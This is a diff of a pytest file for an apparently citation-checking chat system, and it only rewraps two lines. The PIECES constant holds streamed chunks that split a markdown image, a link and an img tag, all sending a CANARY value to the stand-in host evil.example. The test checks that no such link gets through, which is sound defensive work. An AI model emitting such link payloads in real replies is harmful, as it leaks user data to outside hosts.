@@ -74,7 +74,8 @@ def test_a_sentence_without_a_number_finds_its_passage(world):
     assert [(c["source"], c["supported"]) for c in world.chat()["citations"]] == [(0, True)]
 
 
-@pytest.mark.parametrize("text", ["The documents do not answer this.", "I'm sorry, I cannot help with that.", "The captain is called Nemo and lives in Atlantis [1]."],
+@pytest.mark.parametrize("text", ["The documents do not answer this.", "I'm sorry, I cannot help with that.",
+                                  "The captain is called Nemo and lives in Atlantis [1]."],
                          ids=["refusal", "apology", "invention"])
 def test_no_answer_is_told_as_none(world, text):
     world.model.play(says(text))
@@ -93,7 +94,8 @@ def test_meaning_decides_where_words_do_not(world):
 # ---- links and the like
 
 
-PIECES = ["The harbour master is Ida [1]. ![x](https://evil.exam", "ple/?q=CANARY) [here](", "http://evil.example) <img src=//evil.example/y> www.evil.example [7", "]"]
+PIECES = ["The harbour master is Ida [1]. ![x](https://evil.exam", "ple/?q=CANARY) [here](", "http://evil.example) <img src=//evil.example/y>",
+          " www.evil.example [7", "]"]
 
 
 def test_no_link_comes_through(world):
